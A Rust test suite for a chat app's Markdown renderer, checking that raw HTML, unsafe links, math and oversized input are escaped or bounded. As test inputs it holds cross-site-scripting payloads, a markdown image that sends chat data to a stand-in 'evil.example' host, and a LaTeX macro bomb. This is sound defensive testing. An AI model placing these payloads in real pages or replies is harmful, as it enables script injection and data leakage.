//! The Markdown renderer's tests: GFM, escaping of every raw HTML form, links and
//! images, code blocks (highlighting, previews, diagrams), math, bounds and budgets.

use super::*;

fn html(source: &str) -> String {
    render(source, &Labels::default())
}

#[test]
fn gfm_features_render() {
    let out = html(
        "# Title\n\n**bold** ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\nNote[^1].\n\n[^1]: The note.\n",
    );
    assert!(out.contains("<h1>Title</h1>"), "{out}");
    assert!(out.contains("<del>gone</del>"), "{out}");
    assert!(out.contains("<table>"), "{out}");
    assert!(out.contains("type=\"checkbox\""), "{out}");
    assert!(out.contains("footnote"), "{out}");
}

#[test]
fn aligned_table_columns_are_classes_and_no_render_carries_a_style_attribute() {
    let table =
        html("| left | centre | right | none |\n|:---|:---:|---:|---|\n| a | b | c | d |\n");
    for (cell, side) in [
        ("th", "left"),
        ("th", "center"),
        ("th", "right"),
        ("td", "left"),
        ("td", "center"),
        ("td", "right"),
    ] {
        assert!(
            table.contains(&format!("<{cell} class=\"md-align-{side}\">")),
            "{cell} {side}: {table}"
        );
    }
    assert!(table.contains("<td>d</td>"), "{table}");
    // Nothing the renderer writes has a `style` attribute: the app's policy refuses
    // inline styles. Escaped text that looks like one is text.
    for source in [
        table.as_str(),
        "| a |\n|--:|\n| 1 |\n\n<th style=\"text-align: left\">x</th>\n",
        "`<td style=\"text-align: right\">` and <span style=\"color:red\">x</span>",
        "$$x^2$$ and $y$\n\n```mermaid\nflowchart TD\n  A-->B\n```\n\n```html\n<p>x</p>\n```\n",
        "- [x] done\n\n> [!NOTE]\n> note\n\n1. one\n\n[^1]: foot\n",
        "$$\\color{red}{x} + \\textcolor{blue}{y} = \\frac{\\mathbf{a}}{\\left( b \\right)} \\hspace{1em} \\operatorname{f}(x) \\displaystyle\\sum_{i=0}^n i \\boxed{z} \\cancel{w} \\colorbox{yellow}{v}$$\n",
    ] {
        let out = html(source);
        // Every tag's text, from `<` to `>` (escaped text has no `<`).
        let styled = out
            .split('<')
            .skip(1)
            .filter_map(|rest| rest.split_once('>').map(|(tag, _)| tag))
            .find(|tag| tag.contains(" style="));
        assert_eq!(styled, None, "{source:?} -> {out}");
    }
}

#[test]
fn raw_html_is_shown_as_text() {
    for payload in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "hello <iframe src=\"javascript:alert(1)\"></iframe>",
        "<!-- comment --><svg onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
    ] {
        let out = html(payload);
        assert!(!out.contains("<script"), "{payload} → {out}");
        assert!(!out.contains("<img"), "{payload} → {out}");
        assert!(!out.contains("<iframe"), "{payload} → {out}");
        assert!(!out.contains("<svg"), "{payload} → {out}");
        assert!(!out.contains("<a "), "{payload} → {out}");
        assert!(out.contains("&lt;"), "{payload} → {out}");
    }
}

#[test]
fn html_svg_and_javascript_blocks_offer_a_preview() {
    for (fence, kind) in [
        ("html", "html"),
        ("SVG", "svg"),
        ("javascript", "js"),
        ("js", "js"),
    ] {
        let out = html(&format!("```{fence}\nx\n```"));
        assert!(
            out.contains(&format!(
                "data-action=\"preview-code\" data-kind=\"{kind}\">Preview</button>"
            )),
            "{fence}: {out}"
        );
    }
    for fence in ["rust", "python", "", "html5\"onclick=\"x"] {
        let out = html(&format!("```{fence}\nx\n```"));
        assert!(!out.contains("preview-code"), "{fence}: {out}");
    }
}

#[test]
fn a_mermaid_block_is_marked_as_a_diagram_and_open_until_its_fence_closes() {
    let closed = html(
        "Here:\n\n```mermaid\ngraph TD\nA[\"<img src=x onerror=alert(1)>\"] --> B\n```\n\nDone.",
    );
    assert!(
        closed.contains(
            "<div class=\"code-block diagram\" data-diagram=\"\"><div class=\"code-block__bar\">"
        ),
        "{closed}"
    );
    assert!(!closed.contains("data-diagram-open"), "{closed}");
    assert!(
        closed.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "{closed}"
    );
    assert!(!closed.contains("<img"), "{closed}");
    // The reply is still streaming it.
    let open = html("```mermaid\ngraph TD\nA --> B");
    assert!(
        open.contains("data-diagram=\"\" data-diagram-open=\"\">"),
        "{open}"
    );
    let quoted = html("> ```mmd\n> graph LR\n> ```\n");
    assert!(quoted.contains("data-diagram=\"\">"), "{quoted}");
    for other in [
        "```rust\nfn x() {}\n```",
        "    graph TD",
        "```\ngraph TD\n```",
    ] {
        assert!(!html(other).contains("data-diagram"), "{other}");
    }
}

#[test]
fn formatting_tags_render_balanced_and_others_stay_text() {
    assert_eq!(
        html("Press <kbd>Ctrl</kbd>+<KBD>K</KBD>, H<sub>2</sub>O, x<sup>2</sup>"),
        "<p>Press <kbd>Ctrl</kbd>+<kbd>K</kbd>, H<sub>2</sub>O, x<sup>2</sup></p>\n"
    );
    let table = html("| a | b |\n|---|---|\n| one<br>two | <b>bold</b> |\n");
    assert!(table.contains("<td>one<br>two</td>"), "{table}");
    assert!(table.contains("<td><b>bold</b></td>"), "{table}");
    // Unclosed: closed with its paragraph; a stray close stays text.
    assert_eq!(
        html("<b>open\n\nnext</b>"),
        "<p><b>open</b></p>\n<p>next&lt;/b&gt;</p>\n"
    );
    // Closed out of order: the inner one closes first.
    assert_eq!(
        html("<b><i>x</b>y</i>"),
        "<p><b><i>x</i></b>y&lt;/i&gt;</p>\n"
    );
    // Opened in a link, closed with it.
    assert_eq!(
        html("[<b>x](https://example.com) y</b>"),
        "<p><a href=\"https://example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\"><b>x</b></a> y&lt;/b&gt;</p>\n"
    );
    for text in [
        "<b onclick=\"x()\">a</b>",
        "<b class=\"modal\">a</b>",
        "<span>a</span>",
        "Vec<String>",
        "<br onload=x>",
        "<kbd/>",
        "</br>",
    ] {
        let out = html(text);
        assert!(
            !out.contains("<b ") && !out.contains("<span") && !out.contains("<String"),
            "{text} → {out}"
        );
        assert!(out.contains("&lt;"), "{text} → {out}");
    }
}

#[test]
fn unsafe_links_become_text_and_safe_ones_open_safely() {
    let out = html("[click](javascript:alert(1)) [x](  JaVaScRiPt:alert(1)) [d](data:text/html,x)");
    assert!(!out.contains("<a"), "{out}");
    assert!(
        !out.to_ascii_lowercase().contains("href=\"javascript"),
        "{out}"
    );
    assert!(out.contains("click"));
    let out = html("[docs](https://example.com/a?b=\"c\") <https://example.org>");
    assert!(
        out.contains("href=\"https://example.com/a?b=%22c%22\""),
        "{out}"
    );
    assert!(
        out.contains("rel=\"noopener noreferrer nofollow\""),
        "{out}"
    );
    assert!(out.contains("target=\"_blank\""), "{out}");
    assert_eq!(out.matches("<a ").count(), 2, "{out}");
    assert_eq!(out.matches("</a>").count(), 2, "{out}");
}

#[test]
fn a_citation_links_to_its_source_only_when_the_reply_has_one_of_that_number() {
    use crate::chat::source::{Source, reference_definitions};
    let sources = vec![
        Source {
            url: "https://a.example/page".into(),
            title: "A \"quoted\" <title>".into(),
            passage: None,
        },
        Source {
            url: "https://b.example/".into(),
            title: String::new(),
            passage: None,
        },
    ];
    let text = "Cats sleep [1][2]. Dogs bark [3]. `arr[1]` stays.\n\n```\nx[2]\n```\n\n\
                [1]: https://evil.example/\n";
    let out = html(&format!("{}{text}", reference_definitions(&sources)));
    assert!(
        out.contains(
            "<a class=\"citation\" href=\"https://a.example/page\" \
             title=\"A &quot;quoted&quot; &lt;title&gt;\" target=\"_blank\" \
             rel=\"noopener noreferrer nofollow\">1</a>"
        ),
        "{out}"
    );
    // `[1][2]` is two citations, not a link to 2 reading "1".
    assert!(
        out.contains(
            "nofollow\">1</a><a class=\"citation\" href=\"https://b.example/\" \
             title=\"b.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">2</a>."
        ),
        "{out}"
    );
    // A pair of which one number has no source stays as CommonMark reads it.
    let one = html(&format!("{}See [1][5].\n", reference_definitions(&sources)));
    assert!(!one.contains("class=\"citation\""), "{one}");
    // No source 3: text. Code: text. The model's own definition of [1] comes second and
    // loses.
    assert!(out.contains("Dogs bark [3]."), "{out}");
    assert!(out.contains("<code>arr[1]</code>"), "{out}");
    assert!(out.contains("x[2]"), "{out}");
    assert!(!out.contains("evil.example"), "{out}");
    // Without sources nothing is a link, and an ordinary reference link is no citation.
    let plain = html(text);
    assert!(!plain.contains("class=\"citation\""), "{plain}");
    let named = html("See [docs].\n\n[docs]: https://d.example/\n");
    assert!(named.contains("<a href=\"https://d.example/\""), "{named}");
    assert!(!named.contains("citation"), "{named}");
}

#[test]
fn remote_images_are_links_and_inline_raster_images_load() {
    let out = html("![secret](https://evil.example/leak?d=chat)");
    assert!(
        !out.contains("<img"),
        "remote images never load by themselves: {out}"
    );
    assert!(
        out.contains("href=\"https://evil.example/leak?d=chat\""),
        "{out}"
    );
    assert!(out.contains("secret"));
    let out = html("![dot](data:image/png;base64,iVBORw0KGgo=)");
    assert!(
        out.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\""),
        "{out}"
    );
    assert!(out.contains("referrerpolicy=\"no-referrer\""));
    let out = html("![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](javascript:alert(1))");
    assert!(!out.contains("<img"), "{out}");
    assert!(!out.contains("<a"), "{out}");
    let out = html("![a \"quoted\" <alt>](data:image/gif;base64,R0lG)");
    assert!(
        out.contains("alt=\"a &quot;quoted&quot; &lt;alt&gt;\""),
        "{out}"
    );
}

#[test]
fn code_blocks_have_a_label_a_copy_button_and_escaped_content() {
    let out = html("```rust\nfn main() { println!(\"<b>\"); }\n```\n");
    assert!(
        out.contains("<span class=\"code-block__lang\">rust</span>"),
        "{out}"
    );
    assert!(out.contains("data-action=\"copy-code\""), "{out}");
    assert!(out.contains("class=\"language-rust\""), "{out}");
    assert!(out.contains("&lt;b&gt;"), "{out}");
    let out = html("```\"><script>alert(1)</script>\nx\n```");
    assert!(!out.contains("<script"), "{out}");
}

#[test]
fn code_blocks_are_highlighted_as_a_whole() {
    // In a quote (or a list, or with CRLF line ends) a block's lines arrive as separate
    // text events; a comment spanning them is still one token.
    let out = html("> ```C\n> /* one\n> two */ int x = 1;\n> ```\n");
    assert!(
        out.contains("<span class=\"tok-com\">/* one\ntwo */</span>"),
        "{out}"
    );
    assert!(out.contains("<span class=\"tok-ty\">int</span>"), "{out}");
    let out = html("```\nfn <b>\n```\n\n    indented fn\n");
    assert!(!out.contains("tok-"), "no language, no highlighting: {out}");
    assert!(out.contains("fn &lt;b&gt;"), "{out}");
}

#[test]
fn an_unclosed_fence_renders_as_an_open_code_block() {
    let out = html("Intro\n\n```python\nprint('hi')\nfor x in");
    assert!(out.contains("<p>Intro</p>"), "{out}");
    assert!(
        out.contains(
            "<span class=\"tok-fn\">print</span>(<span class=\"tok-str\">&#39;hi&#39;</span>)"
        ),
        "{out}"
    );
    assert!(out.trim_end().ends_with("</code></pre></div>"), "{out}");
}

#[test]
fn math_becomes_mathml_without_inline_styles() {
    let out = html(
        "Euler: $e^{i\\pi} + 1 = 0$\n\n$$\\color{red}{x}^2 \\hspace{1em} \\frac{a}{b}$$\n\n$\\badcommand{$",
    );
    assert!(out.contains("<math"), "{out}");
    assert!(out.contains("display=\"block\""), "{out}");
    assert!(
        !out.contains("style="),
        "inline styles violate the CSP: {out}"
    );
}

#[test]
fn math_that_fails_to_parse_cannot_smuggle_markup() {
    // pulldown-latex quotes the source around a parse error inside <merror><mtext>,
    // where a browser parses HTML tags (found by the Markdown fuzz target).
    for source in [
        "$\\frac{&<img src=x onerror=alert(1)>$",
        "$$a & <script>alert(1)</script>$$",
        "$x < y > z$",
    ] {
        let out = html(source);
        assert!(!out.contains("<img") && !out.contains("<script"), "{out}");
        assert!(!out.contains("<mo><</mo>"), "{out}");
    }
}

#[test]
fn headings_cannot_set_ids_or_classes() {
    let out = html("# Title {#evil .class}\n");
    assert!(!out.contains("id="), "{out}");
    assert!(!out.contains("class="), "{out}");
}

#[test]
fn oversize_input_is_cut_with_a_marker() {
    let big = "a".repeat(MAX_SOURCE_BYTES + 10);
    let out = html(&big);
    assert!(out.ends_with("<p class=\"md-truncated\">…</p>"));
}

/// Every `name="value"` attribute inside the tags of `html` (text is escaped, so every
/// `<` starts a tag).
fn attributes(html: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1) {
        let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
        let mut rest = tag;
        while let Some(eq) = rest.find("=\"") {
            let name = rest[..eq].rsplit(' ').next().unwrap_or_default();
            let value = &rest[eq + 2..];
            let end = value.find('"').unwrap_or(value.len());
            found.push((name.to_string(), value[..end].to_string()));
            rest = &value[(end + 1).min(value.len())..];
        }
    }
    found
}

const BOMB: &str = "$\\def\\a{\\a\\a}\\a$";

#[test]
fn macro_bombs_render_within_a_bound_and_show_errors() {
    // Each formula used to quote ~47 KB of macro expansion in its parse error.
    let source = format!("{BOMB} ").repeat(500);
    let started = std::time::Instant::now();
    let out = html(&source);
    let elapsed = started.elapsed();
    assert_eq!(out.matches(ERROR_CLASS).count(), 500, "{}", &out[..2000]);
    assert!(
        out.len() <= 500 * math_budget(BOMB.len()),
        "{} bytes from {}",
        out.len(),
        source.len()
    );
    assert!(elapsed < std::time::Duration::from_secs(10), "{elapsed:?}");
    // The error quotes the source, not the expansion.
    assert!(
        out.contains("<code>\\def\\a{\\a\\a}\\a</code>"),
        "{}",
        &out[..500]
    );

    // A macro whose expansion parses writes valid MathML, 2^12 identifiers of it.
    let nested = format!(
        "${}x{}$",
        "\\def\\b#1{#1#1}".to_string() + &"\\b{".repeat(12),
        "}".repeat(12)
    );
    let out = html(&nested);
    assert!(out.len() <= math_budget(nested.len()) + 64, "{}", out.len());
    assert!(out.contains(ERROR_CLASS), "{out}");
    assert!(!out.contains("<math"), "{out}");
}

#[test]
fn math_errors_show_one_short_line() {
    let out = html("$\\frac{1}{2} + \\nosuchcommand + x$");
    let error = &out[out.find("<mtext>").unwrap()..out.find("</mtext>").unwrap()];
    assert!(error.len() <= math::MAX_MATH_ERROR_BYTES + 7, "{error}");
    assert!(!error.contains('\n'), "{error}");
    // The rest of the formula still renders.
    assert!(
        out.contains("<mfrac>") && out.contains("<mi>x</mi>"),
        "{out}"
    );
}

#[test]
fn a_render_is_cut_at_the_output_bound() {
    // Each `<` is escaped to four bytes: 3 MiB of them would be 12 MiB of HTML.
    let block = format!("{}\n\n", "<".repeat(1022));
    let source = block.repeat(3 * 1024);
    let out = html(&source);
    assert!(
        out.len() <= MAX_HTML_BYTES + 1024,
        "{} bytes from {}",
        out.len(),
        source.len()
    );
    let error = out.find(ERROR_CLASS).expect("an error marks the cut");
    assert!(
        out[..error].ends_with("</p>\n<div class=\""),
        "cut between blocks"
    );
    assert!(
        out[error..].contains("<div class=\"md-plain\">&lt;&lt;"),
        "the rest is text"
    );
    assert!(out.ends_with("…</div>"));
    assert_eq!(out.matches(ERROR_CLASS).count(), 1);
}

#[test]
fn many_small_tags_stay_within_the_bound() {
    let source = "*a* `b` [^x] ".repeat(200_000) + "\n\n[^x]: y\n";
    let out = html(&source);
    assert!(out.len() <= MAX_HTML_BYTES + 1024, "{}", out.len());
}

#[test]
fn large_code_blocks_are_not_highlighted() {
    // JSON numbers are 15 bytes of HTML per digit when highlighted.
    let code = "1,".repeat(600_000);
    let out = html(&format!("```json\n{code}\n```\n"));
    assert!(!out.contains("tok-"), "not highlighted");
    assert!(out.contains(&code), "but all there");
    assert!(out.len() < code.len() + 1024, "{}", out.len());
    assert!(highlight::highlight_within("json", &code, MAX_CODE_BYTES).is_none());
    assert!(highlight::highlight_within("json", "[1, 2]", MAX_CODE_BYTES).is_some());
    // A small block still is.
    assert!(html("```json\n[1, 2]\n```\n").contains("tok-num"));
}

#[test]
fn pieces_of_a_message_share_one_budget() {
    let labels = Labels::default();
    let mut budget = MessageBudget::default();
    let piece = "x".repeat(MAX_HTML_BYTES / 3 - 1000);
    for _ in 0..3 {
        assert_eq!(
            budget.admit(piece.clone(), "src", &labels),
            Some(piece.clone())
        );
    }
    let over = budget.admit(piece.clone(), "<src>", &labels).unwrap();
    assert!(
        over.contains(ERROR_CLASS) && over.contains("&lt;src&gt;"),
        "{over}"
    );
    assert!(over.len() < 1024);
    assert_eq!(budget.admit("<p>y</p>".into(), "y", &labels), None);
}

#[test]
fn a_failed_render_shows_an_error_and_the_text() {
    let out = render_failed("**a** <script>x</script>", &Labels::default());
    assert!(
        out.starts_with("<div class=\"render-error\" role=\"note\">"),
        "{out}"
    );
    assert!(
        out.contains("**a** &lt;script&gt;x&lt;/script&gt;"),
        "{out}"
    );
    assert!(!out.contains("<script"), "{out}");
}

#[test]
fn every_id_is_prefixed_and_plain() {
    for label in [
        "__proto__",
        "cookie",
        "location",
        "a\"b",
        "x' onmouseover='y",
        "a b",
        "ünïcödé",
        "<script>",
        "1",
        "getElementById",
    ] {
        let source =
            format!("Text[^{label}] again[^{label}].\n\n[^{label}]: The note.\n\n# Heading\n");
        let out = html(&source);
        let attributes = attributes(&out);
        let mut ids = Vec::new();
        let mut targets = Vec::new();
        for (name, value) in &attributes {
            match name.as_str() {
                "id" | "name" => ids.push(value.clone()),
                "href" => targets.push(value.trim_start_matches('#').to_string()),
                _ => {}
            }
        }
        assert_eq!(ids.len(), 1, "{label:?}: {out}");
        assert_eq!(targets.len(), 2, "{label:?}: {out}");
        for id in ids.iter().chain(&targets) {
            assert!(id.starts_with("hearth-fn-"), "{label:?} → {id:?}: {out}");
            assert!(
                id.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-_".contains(&b)),
                "{label:?} → {id:?}"
            );
        }
        assert!(
            targets.iter().all(|t| *t == ids[0]),
            "links reach the note: {out}"
        );
    }
    // Labels match whatever their case, and so do their ids; distinct labels differ.
    let out = html("a[^Cookie] b[^a_b] c[^a-b]\n\n[^cookie]: x\n\n[^a_b]: y\n\n[^a-b]: z\n");
    let values: Vec<String> = attributes(&out).into_iter().map(|(_, v)| v).collect();
    assert!(values.contains(&"#hearth-fn-cookie".to_string()), "{out}");
    assert!(values.contains(&"hearth-fn-cookie".to_string()), "{out}");
    assert!(values.contains(&"hearth-fn-a_5fb".to_string()), "{out}");
    assert!(values.contains(&"hearth-fn-a-b".to_string()), "{out}");
}

#[test]
fn math_keeps_its_spacing() {
    for (source, space) in [
        ("$a\\,b$", "<mspace width=\"0.16666667em\"/>"),
        ("$a\\quad b$", "<mspace width=\"1em\"/>"),
        (
            "$\\sin x$",
            "<mi>sin</mi><mo>\u{2061}</mo><mspace width=\"0.1667em\"/>",
        ),
        ("$\\log x$", "<mspace width=\"0.1667em\"/>"),
        ("$\\lim_{n} a_n$", "<mspace width=\"0.1667em\"/>"),
        ("$a\\!b$", "<mspace width=\"-0.16666667em\"/>"),
    ] {
        let out = html(source);
        assert!(out.contains(space), "{source} → {out}");
        assert!(!out.contains("&lt;"), "{source} → {out}");
    }
}
